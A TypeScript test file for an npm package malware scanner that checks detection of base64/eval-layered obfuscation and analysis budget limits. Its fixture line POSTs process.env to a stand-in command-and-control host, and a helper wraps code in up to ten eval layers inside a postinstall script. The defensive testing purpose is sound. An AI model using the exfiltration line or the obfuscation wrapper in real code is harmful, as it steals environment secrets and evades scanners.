import { LAYERS_READ_MAX } from '@weir/code';
import type { AnalysisResult } from '@weir/model';
import { describe, expect, test } from 'vitest';
import { analyzeArtifact } from './analyze.ts';
import { createMemoryView } from './memory-view.ts';

const STEAL = `fetch('https://c2.weir.test/', { method: 'POST', body: JSON.stringify(process.env) });`;

function wrapped(code: string, times: number): string {
  let text = code;
  for (let layer = 0; layer < times; layer++)
    text = `eval(Buffer.from('${Buffer.from(text).toString('base64')}', 'base64').toString());`;
  return text;
}

async function analyze(code: string): Promise<AnalysisResult> {
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } });
  await using view = createMemoryView({ 'package/package.json': manifest, 'package/i.js': code });
  return analyzeArtifact(
    view,
    { ecosystem: 'npm', filename: 'x.tgz', context: null },
    {
      layout: 'archive',
      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
      rulesetVersion: 'test',
      now: () => performance.now(),
    },
  );
}

describe('layers beyond those that are read', () => {
  test.each([1, 8])('%d layers are read', async (times) => {
    const { findings, skipped } = await analyze(wrapped(STEAL, times));

    expect(findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
    expect(skipped).toEqual([]);
  });

  test.each([9, 10])('of %d layers the rest is listed, scored and looked through', async (times) => {
    const { findings, skipped, judgement } = await analyze(wrapped(STEAL, times));

    expect(skipped).toMatchObject([{ file: 'i.js', reason: expect.stringContaining('8 decoded layers') }]);
    expect(findings).toContainEqual(
      expect.objectContaining({ rule: 'analysis/budget-layers', severity: 'medium', stage: 'install' }),
    );
    expect(judgement.complete).toBe(false);
    if (times === 9) expect(findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
  });

  test('code that many places of a file run is read as far as may be, and the rest is listed, scored and looked through', async () => {
    const runs = (code: string): string => `eval(${JSON.stringify(code)});`;
    const many = Array.from({ length: LAYERS_READ_MAX }, (_, at) =>
      runs(`globalThis.${'x'.repeat(at + 1)} = require('path');`),
    );
    const few = await analyze([...many.slice(1), runs(STEAL)].join('\n'));
    const { findings, skipped, judgement } = await analyze([...many, runs(STEAL)].join('\n'));

    expect(few.skipped).toEqual([]);
    expect(few.findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
    expect(skipped).toMatchObject([
      { file: 'i.js', reason: expect.stringContaining(`${LAYERS_READ_MAX} places`) },
    ]);
    expect(findings).toContainEqual(
      expect.objectContaining({ rule: 'analysis/budget-layers', stage: 'install' }),
    );
    expect(findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
    expect(judgement.complete).toBe(false);
    const alike = Array.from({ length: 5_000 }, (_, at) => runs(`globalThis.x${at} = require('path');`));
    const loop = await analyze([...alike, runs(STEAL)].join('\n'));
    expect(loop.skipped).toEqual([]);
    expect(loop.findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
  });

  test.each([
    [
      'codes of characters',
      'process[String.fromCharCode(101, 110, 119)]',
      'process[String.fromCharCode(101, 110, 118)]',
    ],
    ['escapes', String.raw`process['\x66nv']`, String.raw`process['\x65nv']`],
    [
      'numbers of another base',
      "process[String.fromCharCode(0x66) + 'nv']",
      "process[String.fromCharCode(0x65) + 'nv']",
    ],
  ])('a text that differs in %s from one that was read is read as well', async (_what, harmless, harmful) => {
    const runs = (what: string): string => `eval(${JSON.stringify(STEAL.replace('process.env', what))});`;
    const rulesOf = async (code: string): Promise<readonly string[]> =>
      (await analyze(code)).findings.map(({ rule }) => rule);

    expect(await rulesOf(runs(harmless))).not.toContain('env-to-network/environment');
    expect(await rulesOf([runs(harmless), runs(harmful)].join('\n'))).toContain('env-to-network/environment');
  });

  test('data that is no code is no layer', async () => {
    const text = wrapped(
      `console.log(Buffer.from('${Buffer.from('only words of a text').toString('base64')}', 'base64'))`,
      8,
    );

    expect((await analyze(text)).skipped).toEqual([]);
  });
});
